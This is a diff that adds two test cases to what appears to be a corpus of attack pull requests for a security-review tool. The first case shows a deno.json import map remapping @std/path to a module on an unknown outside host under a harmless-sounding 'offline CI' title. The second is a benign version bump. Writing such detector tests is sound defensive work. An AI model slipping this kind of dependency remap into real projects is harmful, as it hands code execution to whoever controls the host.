@@ -2504,4 +2504,42 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
   },
+  {
+    id: 'attack-deno-import-remapped',
+    description:
+      'A "pin std for offline CI" PR remaps @std/path in deno.json from jsr to a URL on an unknown host: every deno run of the project now loads that module from whoever serves the URL, which can change at any time (the import-map swap, as npm overrides are swapped).',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-deno',
+        number: 7680,
+        title: 'chore: pin std for offline CI',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'deno.json',
+            base: `${JSON.stringify({ tasks: { dev: 'deno run -A main.ts' }, imports: { '@std/path': 'jsr:@std/path@^1.0.8', '@std/fs': 'jsr:@std/fs@^1.0.5' } }, null, 2)}\n`,
+            head: `${JSON.stringify({ tasks: { dev: 'deno run -A main.ts' }, imports: { '@std/path': 'https://deno-std-mirror.dev/path@1.0.8/mod.ts', '@std/fs': 'jsr:@std/fs@^1.0.5' } }, null, 2)}\n`,
+          },
+        ],
+      }),
+    expect: { level: ['medium', 'high'], action: ['needs_discussion', 'request_changes'], findings: ['url-dependency'] },
+  },
+  {
+    id: 'attack-deno-jsr-bump',
+    description: 'A maintainer bumps the jsr std modules and an esm.sh React in deno.json: registry releases.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-deno',
+        number: 7681,
+        title: 'chore: bump std and react',
+        files: [
+          {
+            path: 'deno.json',
+            base: `${JSON.stringify({ tasks: { dev: 'deno run -A main.ts' }, imports: { '@std/path': 'jsr:@std/path@^1.0.6', react: 'https://esm.sh/react@18.3.0' } }, null, 2)}\n`,
+            head: `${JSON.stringify({ tasks: { dev: 'deno run -A main.ts' }, imports: { '@std/path': 'jsr:@std/path@^1.0.8', react: 'https://esm.sh/react@18.3.1' } }, null, 2)}\n`,
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
+  },
 ];
